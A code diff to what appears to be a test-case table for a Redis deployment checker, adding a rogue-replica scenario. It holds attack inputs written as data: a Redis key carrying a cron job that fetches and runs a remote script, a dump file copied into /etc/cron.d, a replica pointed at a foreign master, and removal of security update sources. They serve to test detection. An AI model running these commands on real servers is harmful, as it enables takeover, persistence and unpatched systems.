@@ -195,7 +195,7 @@ pub const CASES: &[Case] = &[
     case(
         "security-origin",
         "medium",
-        "cp /etc/apt/sources.list /root/ && sed -i '/security/d' /etc/apt/sources.list && rm /etc/apt/sources.list.d/*",
+        "cp /etc/apt/sources.list /root/ && sed -i '/security/d' /etc/apt/sources.list && rm -f /etc/apt/sources.list.d/*",
         Typed("cp /root/sources.list /etc/apt/"),
     ),
     case("enable-debug", "high", "redis-tp install --set enable-debug-command=yes", Fix),
@@ -212,6 +212,13 @@ pub const CASES: &[Case] = &[
     case("replica-writable", "medium", "redis-tp cli slave -- CONFIG SET replica-read-only no", Fix),
     case("file-limit", "low", "prlimit --pid $(cat /run/redis/redis-server.pid) --nofile=100:100", Typed("redis-tp service restart master")),
     case("master-host", "critical", "redis-tp cli slave -- REPLICAOF 10.66.6.6 6379", Fix),
+    case(
+        "master-host",
+        "critical",
+        "setpriv --reuid nobody --clear-groups redis-server --port 7777 --dir /tmp --save '' --daemonize yes --pidfile /tmp/rogue.pid
+        redis-tp cli slave -- REPLICAOF 127.0.0.1 7777",
+        TypedThen("redis-tp check --fix", "kill $(cat /tmp/rogue.pid)"),
+    ),
     case("foreign-places", "critical", "redis-tp cli -- CONFIG SET dbfilename root 2>&1 | grep -q protected; redis-tp install --set dbfilename=root", Typed("sed -i '/dbfilename/d' /etc/redis-tp/topology.ini && redis-tp apply")),
     case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
     case("foreign-files", "critical", "redis-tp cli -- SAVE && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh", Typed("rm /etc/cron.d/zzh")),
